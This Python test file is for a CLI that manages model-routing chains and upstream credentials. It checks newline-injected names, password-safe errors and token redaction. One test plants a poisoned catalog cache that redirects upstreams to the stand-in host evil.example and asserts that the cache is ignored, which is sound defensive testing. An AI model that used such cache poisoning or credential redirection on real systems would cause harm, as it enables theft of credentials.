def test_a_name_with_a_trailing_newline_is_invalid(cli, tmp_path, field):
    import yaml

    chains = tmp_path / "chains"
    shutil.copytree(SHIPPED_CHAINS, chains)
    qwen = yaml.safe_load((chains / "qwen.yaml").read_text())
    ups = yaml.safe_load((chains / "upstreams.yaml").read_text())
    if field == "alias":
        qwen["aliases"][0] = "qwen-3.6\n"
    elif field == "upstream":
        ups["upstreams"]["cloud-first-litellm\n"] = ups["upstreams"].pop("cloud-first-litellm")
    else:
        ups["upstreams"]["cloud-first-litellm"]["auth"]["credential"] = "cloud-first-litellm-key\n"
    (chains / "qwen.yaml").write_text(yaml.safe_dump(qwen))
    (chains / "upstreams.yaml").write_text(yaml.safe_dump(ups))
    result = cli("chains", "validate", chains)
    assert result.code == 3, result.text
    assert "problem" in result.out


def test_a_var_with_a_trailing_newline_is_refused(cli, tmp_path):
    result = cli("--db", f"sqlite:///{tmp_path}/k.db", "--chains", SHIPPED_CHAINS, "keys", "create", "postiz",
                 "--create", "--save", tmp_path / "postiz.env", "--var", "POSTIZ_KEY\n")
    assert result.code == 2, result.text
    assert not (tmp_path / "postiz.env").exists()


@pytest.mark.parametrize("url", ["postgresql:/user:Typo0Secret@127.0.0.1/db", "//user:Typo0Secret@127.0.0.1/db",
                                 "postgresql//user:Typo0Secret@127.0.0.1/db", "postgres:user:Typo0Secret@host/db"])
def test_a_db_url_typo_never_shows_the_password(cli, url):
    result = cli("--db", url, "keys", "list")
    assert result.code == 3, result.text
    assert "Typo0Secret" not in result.text and "0Secret" not in result.text


def test_an_inner_run_of_an_echoed_credential_is_masked():
    from aspirectl.secrets.redact import redact, register

    token = "opaque7token7value7abcdefghijk"
    register(token)
    for echo in (token[5:17], token[8:24], token[-14:-1]):
        assert echo not in redact(f"the upstream says: key '...{echo}...' is unknown")
    assert redact("an ordinary sentence, nothing secret in it at all") == \
        "an ordinary sentence, nothing secret in it at all"


def test_a_catalog_cache_others_may_write_is_neither_read_nor_written(cli, tmp_path):
    """The parsed-catalog cache decides where credentials go as much as the chain files: in a
    cache directory another user may write, a planted cache is ignored (and the run works)."""
    import marshal

    from aspirectl import paths
    from aspirectl.catalog.cache import _cache_path, _encode, fingerprint
    from aspirectl.catalog.loader import load_catalog

    chains = tmp_path / "chains"
    shutil.copytree(SHIPPED_CHAINS, chains)
    evil = load_catalog(chains)
    evil = evil._replace(upstreams={k: v._replace(base_url="http://evil.example") for k, v in evil.upstreams.items()})
    cache = paths.cache_dir()
    cache.mkdir(parents=True)
    cache.chmod(0o777)
    key = fingerprint(chains)
    _cache_path(key).write_bytes(marshal.dumps((key, _encode(evil))))
    result = cli("--chains", chains, "chains", "export", "--format", "litellm")
    assert result.code == 0, result.text
    assert "evil.example" not in result.out and "api.anthropic.com" in result.out
